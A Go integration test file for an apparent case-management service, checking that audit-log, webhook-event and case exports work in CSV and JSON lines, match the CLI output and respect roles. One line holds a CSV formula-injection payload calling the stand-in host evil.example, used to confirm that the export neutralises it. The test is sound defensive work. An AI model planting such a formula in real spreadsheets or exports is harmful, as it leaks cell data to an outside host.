package main

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/recourse-hq/recourse/internal/dbtest"
)

// get fetches path with token and extra headers and returns status, the
// Content-Type and the body.
func (in *instance) raw(path, token string, header map[string]string) (int, string, string) {
	in.t.Helper()
	req, _ := http.NewRequest(http.MethodGet, in.url+path, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := in.api.Do(req)
	if err != nil {
		in.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header.Get("Content-Type"), string(b)
}

// The audit log exports as CSV (by ?format= or Accept) and as JSON lines,
// every page of it, with a reason that looks like a formula neutralised in
// CSV and kept as typed in JSON lines; only roles that may read the audit
// log get it.
func TestAuditExport(t *testing.T) {
	for _, dialect := range []string{"sqlite", "postgres"} {
		t.Run(dialect, func(t *testing.T) {
			env := map[string]string{"RECOURSE_SQLITE_PATH": dbtest.NewSQLitePath(t)}
			if dialect == "postgres" {
				env["DATABASE_URL"] = dbtest.NewPostgresURL(t)
			}
			in := boot(t, env)
			agent, sup := in.token("agent"), in.token("supervisor")
			const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
			// 205 escalations: more than one page of the largest size (200).
			const n = 205
			for i := 0; i < n; i++ {
				code, c := in.do("POST", "/api/v1/cases", agent, []byte(`{"kind":"billing_inquiry","channel":"email","title":"Export me","links":{"customer":"cus_x"}}`), nil)
				if code != 201 {
					t.Fatalf("create: %d %v", code, c)
				}
				reason := "needs finance"
				if i == 0 {
					reason = formula
				}
				if code, m := in.do("POST", "/api/v1/cases/"+c["id"].(string)+"/escalate", agent, jsonBody(map[string]any{"team": "finance", "reason": reason}), nil); code != 200 {
					t.Fatalf("escalate: %d %v", code, m)
				}
			}
			for _, how := range []struct {
				path   string
				header map[string]string
			}{
				{"/api/v1/audit?action=case.escalate&format=csv", nil},
				{"/api/v1/audit?action=case.escalate", map[string]string{"Accept": "text/csv"}},
			} {
				code, ct, body := in.raw(how.path, sup, how.header)
				if code != 200 || ct != "text/csv; charset=utf-8" {
					t.Fatalf("%s: %d %s %s", how.path, code, ct, body)
				}
				recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
				if err != nil {
					t.Fatalf("not RFC 4180: %v", err)
				}
				if len(recs) != n+1 || strings.Join(recs[0], ",") != "id,at,actor,actor_kind,role,action,case_id,object_type,object_id,provider_request_id,request_id,detail" {
					t.Fatalf("%d records, header %v", len(recs), recs[0])
				}
				neutral := 0
				for _, r := range recs[1:] {
					if r[5] != "case.escalate" {
						t.Fatalf("row of action %q under filter case.escalate", r[5])
					}
					if strings.HasPrefix(r[11], "=") {
						t.Fatalf("formula left live: %q", r[11])
					}
					if r[11] == "'"+formula {
						neutral++
					}
				}
				if neutral != 1 {
					t.Fatalf("%d neutralised formula cells, want 1", neutral)
				}
			}
			code, ct, body := in.raw("/api/v1/audit?action=case.escalate&format=jsonl", sup, nil)
			lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
			if code != 200 || ct != "application/x-ndjson" || len(lines) != n {
				t.Fatalf("jsonl: %d %s, %d lines", code, ct, len(lines))
			}
			kept := false
			for _, l := range lines {
				var e map[string]any
				if err := json.Unmarshal([]byte(l), &e); err != nil {
					t.Fatalf("line %q: %v", l, err)
				}
				kept = kept || e["detail"] == formula
			}
			if !kept {
				t.Fatal("JSON lines changed the reason as typed")
			}
			// The shell gets the same stream.
			_, apiCSV := func() (int, string) {
				c, _, b := in.raw("/api/v1/audit?action=case.escalate&format=csv", sup, nil)
				return c, b
			}()
			out, errOut, err := in.cli("export", "audit", "--action", "case.escalate")
			if err != nil || out != apiCSV || !strings.Contains(errOut, "exported 205 rows") {
				t.Fatalf("recourse export audit: %v %q; same as the API: %v", err, errOut, out == apiCSV)
			}
			if _, _, err := in.cli("export", "audit", "--format", "xlsx"); err == nil {
				t.Fatal("an unknown format was accepted")
			}
			out, _, err = in.cli("export", "webhook-events", "--format", "jsonl", "--status", "processed")
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(out, "payload") {
				t.Fatal("a webhook-event export carries payloads")
			}
			if code, ct, body := in.raw("/api/v1/webhook-events?format=csv", in.token("admin"), nil); code != 200 || ct != "text/csv; charset=utf-8" ||
				!strings.HasPrefix(body, "id,type,created,livemode,account,object_type,object_id,status,attempts,last_error,received_at,processed_at\n") {
				t.Fatalf("webhook-events csv: %d %s %q", code, ct, body)
			}
			// Case lists export with their filters: the 205 billing inquiries
			// escalated to finance, from the API and from the shell alike.
			code, ct, body = in.raw("/api/v1/cases?kind=billing_inquiry&team=finance&format=csv", agent, nil)
			recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if code != 200 || ct != "text/csv; charset=utf-8" || err != nil || len(recs) != n+1 || recs[0][0] != "id" || recs[0][11] != "title" {
				t.Fatalf("cases csv: %d %s %v, %d records", code, ct, err, len(recs))
			}
			for _, r := range recs[1:] {
				if r[6] != "finance" || r[1] != "billing_inquiry" {
					t.Fatalf("a row outside the filter: %v", r)
				}
			}
			cli, _, err := in.cli("export", "cases", "--query", "kind=billing_inquiry&team=finance")
			if err != nil || cli != body {
				t.Fatalf("recourse export cases: %v; same as the API: %v", err, cli == body)
			}
			if _, _, err := in.cli("export", "cases", "--query", "colour=red"); err == nil {
				t.Fatal("an unknown filter was accepted")
			}
			if code, _, _ := in.raw("/api/v1/audit?format=csv", agent, nil); code != 403 {
				t.Fatalf("an agent exported the audit log: %d", code)
			}
			if code, _, body := in.raw("/api/v1/audit?format=xlsx", sup, nil); code != 400 || !strings.Contains(body, "invalid_format") {
				t.Fatalf("unknown format: %d %s", code, body)
			}
		})
	}
}
